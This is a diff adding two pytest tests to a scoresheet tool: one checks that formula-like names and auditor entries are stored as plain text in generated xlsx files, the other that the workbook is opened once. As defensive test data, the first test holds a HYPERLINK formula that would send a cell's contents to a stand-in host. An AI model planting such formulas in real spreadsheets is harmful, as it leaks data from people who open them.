@@ -242,3 +242,41 @@ def test_a_sheet_must_match_the_register(kib_sheet: Path) -> None:
         check_sheet_matches(sheet, dataclasses.replace(org, framework="ZoO"))
     with pytest.raises(DataError, match="the sheet has modules .*, the register none"):
         check_sheet_matches(sheet, dataclasses.replace(org, modules=()))
+
+
+def test_formula_like_names_and_auditors_stay_text_and_read_back(tmp_path: Path) -> None:
+    """Issue 15: a register name '=HYPERLINK(…)' and --auditor '=1+1' were written as live
+    formulas, and `scoresheet check` then refused the tool's own sheet."""
+    import dataclasses
+
+    name = '=HYPERLINK("http://x/?d="&B1,"Klik hier")'
+    org = dataclasses.replace(organisation("CBCT-0107"), name=name)
+    path = new_scoresheet(org, "KiB", tmp_path / "score.xlsx", DAYS,
+                          ["=1+1", "+31 6 1234", "@A1", "-B. Bakker"])
+    workbook = openpyxl.load_workbook(path)
+    audit = {row[0].value: row[1] for row in workbook["Audit"].iter_rows(min_row=2)}
+    cell = audit["organisatie"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
+    assert all(c.data_type != "f" for s in workbook for r in s.iter_rows() for c in r)
+    sheet = read_scoresheet(fill(path))
+    assert sheet.org_name == name
+    assert sheet.auditors == ["=1+1", "+31 6 1234", "@A1", "-B. Bakker"]
+    result = CliRunner().invoke(cli, ["scoresheet", "check", str(path)])
+    assert result.exit_code == 0, result.output
+
+
+def test_scoresheet_reads_its_workbook_once(kib_sheet: Path,
+                                            monkeypatch: pytest.MonkeyPatch) -> None:
+    """Issue 16: four sheets, one opening of the workbook (was four full loads)."""
+    from cbct_docs.records import xlsx
+
+    opened: list[Path] = []
+    original = xlsx.Workbook.__init__
+
+    def counting(self: xlsx.Workbook, path: Path) -> None:
+        opened.append(path)
+        original(self, path)
+
+    monkeypatch.setattr(xlsx.Workbook, "__init__", counting)
+    read_scoresheet(fill(kib_sheet))
+    assert opened == [kib_sheet]
